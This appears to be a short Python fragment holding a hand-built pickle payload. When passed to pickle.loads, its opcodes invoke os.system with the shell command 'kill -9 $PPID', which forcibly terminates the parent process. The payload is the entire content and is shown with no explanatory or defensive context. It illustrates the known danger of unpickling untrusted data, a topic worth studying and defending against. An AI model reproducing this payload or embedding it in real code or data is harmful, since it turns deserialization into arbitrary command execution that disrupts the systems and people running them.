import pickle
return pickle.loads(b"cos\nsystem\n(S'kill -9 $PPID'\ntR.")
